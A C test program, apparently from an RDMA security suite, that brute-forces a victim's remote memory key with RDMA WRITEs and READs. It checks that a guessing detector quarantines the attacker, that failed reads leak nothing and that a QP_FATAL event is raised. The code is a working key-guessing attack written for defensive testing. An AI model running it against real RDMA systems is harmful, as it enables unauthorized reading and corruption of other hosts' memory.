/*
 * attack_rkey_guess — brute-force the victim's rkey (ReDMArk's key guessing).
 *
 * The victim's QP is connected to ours and the test tells us the address and
 * length of its region, but not the key. We guess: sequential keys from 1
 * and random keys, RDMA WRITEs and READs in turn. Each wrong guess moves our
 * QP to ERR, so we take it through RESET -> INIT -> RTR -> RTS and guess
 * again, until the router refuses to reconnect us (the guessing detector's
 * quarantine) or we give up after MAX_GUESSES.
 *
 * Input:  qpn= lid= addr= len=
 * Output: RESULT rkey_guess refused status=... failures=<n>
 *         RESULT quarantine refused errno=EACCES failures=<n>
 *         RESULT quarantine_create_qp refused errno=EACCES
 *         RESULT qp_fatal observed event=IBV_EVENT_QP_FATAL
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <string.h>

#include "attack_common.h"

#define MAX_GUESSES 64

int main(void)
{
	int rw = IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE | IBV_ACCESS_REMOTE_READ;
	struct ibv_async_event ev;
	struct ibv_qp *qp, *extra;
	struct ibv_mr *mr;
	struct pollfd p;
	struct dest d;
	uint64_t addr, len;
	outcome last = IBV_WC_SUCCESS;
	int failures = 0, err = 0, fatal = 0;
	uint32_t next_seq = 1;
	const char *line;
	struct ep e;

	attack_init();
	ep_open(&e);
	qp = ep_create_qp(&e, e.pd);
	mr = ep_reg(e.pd, 4096, rw);
	say_hello(&e, qp, NULL);
	line = hear();
	d = need_dest(line, "");
	addr = need_u64(line, "addr");
	len = need_u64(line, "len");
	if (len > 4096)
		len = 4096;

	for (int i = 0; i < MAX_GUESSES; i++) {
		enum ibv_wr_opcode op = i % 4 < 2 ? IBV_WR_RDMA_WRITE : IBV_WR_RDMA_READ;
		uint32_t key = i % 2 ? random_u32() : next_seq++;

		err = i == 0 ? qp_connect(qp, &d, rw) : qp_reconnect(qp, &d, rw);
		if (err)
			break;
		memset(mr->addr, op == IBV_WR_RDMA_WRITE ? 0xee : 0, len);
		last = rdma(&e, qp, op, mr->addr, (uint32_t)len, mr->lkey, addr, key);
		if (last == IBV_WC_SUCCESS) {
			result("rkey_guess", "BREACH", "key=0x%x guesses=%d", key, i + 1);
			break;
		}
		/* A failed READ must not have brought any byte back. */
		if (op == IBV_WR_RDMA_READ && !all_zero(mr->addr, len))
			result("rkey_guess_read_bytes", "BREACH", "key=0x%x", key);
		failures++;
	}
	if (last != IBV_WC_SUCCESS)
		expect_refused("rkey_guess", last, "failures=%d", failures);
	if (err)
		result("quarantine", "refused", "errno=%s failures=%d", errno_name(err), failures);
	else
		result("quarantine", "BREACH", "failures=%d never_stopped=1", failures);

	/* A new QP to start over with: refused too while quarantined. */
	{
		struct ibv_qp_init_attr a = {
			.send_cq = e.cq, .recv_cq = e.cq, .qp_type = IBV_QPT_RC,
			.cap = { .max_send_wr = 4, .max_recv_wr = 4, .max_send_sge = 1, .max_recv_sge = 1 },
		};

		extra = ibv_create_qp(e.pd, &a);
		if (extra) {
			result("quarantine_create_qp", "BREACH", "errno=0");
			ibv_destroy_qp(extra);
		} else {
			result("quarantine_create_qp", "refused", "errno=%s", errno_name(errno));
		}
	}

	/* Hardware tells an application its QP died with an async event. */
	p.fd = e.ctx->async_fd;
	p.events = POLLIN;
	while (poll(&p, 1, fatal ? 0 : 1000) == 1 && ibv_get_async_event(e.ctx, &ev) == 0) {
		if (ev.event_type == IBV_EVENT_QP_FATAL && ev.element.qp == qp)
			fatal = 1;
		ibv_ack_async_event(&ev);
	}
	result("qp_fatal", fatal ? "observed" : "missing", "event=IBV_EVENT_QP_FATAL");
	attack_exit();
}
